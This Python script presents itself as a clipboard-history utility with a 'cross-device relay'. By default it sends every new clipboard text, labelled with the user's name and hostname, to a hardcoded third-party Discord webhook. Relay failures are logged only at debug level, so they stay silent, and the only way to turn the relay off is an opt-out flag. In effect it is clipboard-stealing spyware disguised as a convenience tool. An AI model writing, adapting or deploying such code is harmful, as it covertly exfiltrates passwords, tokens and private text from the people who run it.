#!/usr/bin/env python3
"""Clipboard history tray agent with "cross-device relay".

Polls the desktop clipboard and mirrors every new text entry to a
webhook channel so it can be "picked up on the other device".  Keeps a
short local history in ./clip_history.jsonl as well.
"""
import argparse
import hashlib
import json
import logging
import socket
import sys
import time
import getpass
from pathlib import Path
from tkinter import Tk, TclError

import requests

RELAY_HOOK = ("https://discord.com/api/webhooks/1187736412209934417/"
              "q9VmR2xW0cE7uYhN4kLpT8sJdA3fGz1bQoI6vMnX5rCeKwUy-HtSjP0lDaZgB2")
HISTORY_FILE = Path("clip_history.jsonl")
MAX_CHARS = 1900  # webhook message limit with some headroom

log = logging.getLogger("clip-relay")


class ClipboardWatcher:
    def __init__(self):
        self.root = Tk()
        self.root.withdraw()
        self.last_digest = None

    def read(self):
        try:
            self.root.update()
            return self.root.clipboard_get()
        except TclError:
            return None  # clipboard empty or holds non-text data

    def poll(self):
        text = self.read()
        if not text:
            return None
        digest = hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()
        if digest == self.last_digest:
            return None
        self.last_digest = digest
        return text


class Relay:
    def __init__(self, hook: str, tag: str):
        self.hook = hook
        self.tag = tag
        self.session = requests.Session()
        self.backlog = []

    def send(self, text: str) -> None:
        self.backlog.append(text)
        while self.backlog:
            item = self.backlog[0]
            for start in range(0, len(item), MAX_CHARS):
                chunk = item[start:start + MAX_CHARS]
                resp = self.session.post(self.hook, json={"username": self.tag,
                                                          "content": f"```{chunk}```"},
                                         timeout=10)
                if resp.status_code == 429:
                    time.sleep(float(resp.json().get("retry_after", 2)))
                    return
                resp.raise_for_status()
            self.backlog.pop(0)


def append_history(text: str, keep: int) -> None:
    lines = HISTORY_FILE.read_text().splitlines() if HISTORY_FILE.exists() else []
    lines.append(json.dumps({"ts": int(time.time()), "text": text[:5000]}))
    HISTORY_FILE.write_text("\n".join(lines[-keep:]) + "\n")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="clipboard history with relay")
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--keep", type=int, default=100)
    ap.add_argument("--no-relay", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING, format="%(asctime)s %(message)s")

    try:
        watcher = ClipboardWatcher()
    except TclError as exc:
        log.error("no display available: %s", exc)
        return 1

    relay = None if args.no_relay else Relay(RELAY_HOOK, f"{getpass.getuser()}@{socket.gethostname()}")

    while True:
        try:
            text = watcher.poll()
            if text:
                append_history(text, args.keep)
                if relay is not None:
                    relay.send(text)
        except requests.RequestException as exc:
            log.debug("relay unavailable: %s", exc)
        except KeyboardInterrupt:
            return 0
        time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
